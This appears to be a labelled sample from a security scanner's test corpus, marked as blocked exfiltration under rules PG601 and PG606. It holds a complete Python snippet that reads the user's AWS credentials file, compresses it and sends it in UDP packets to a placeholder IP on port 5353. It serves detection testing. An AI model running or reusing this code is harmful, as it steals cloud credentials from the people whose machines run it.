# pyguard-corpus: verdict=block category=exfil rules=PG601,PG606
# what: reads ~/.aws/credentials through Path.home() and joinpath, compresses it with zlib and sends it in UDP datagrams
import socket
import zlib
from pathlib import Path

creds = Path.home().joinpath(".aws", "credentials").read_bytes()
packed = zlib.compress(creds)
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for offset in range(0, len(packed), 512):
    sock.sendto(packed[offset:offset + 512], ("198.51.100.23", 5353))
sock.close()
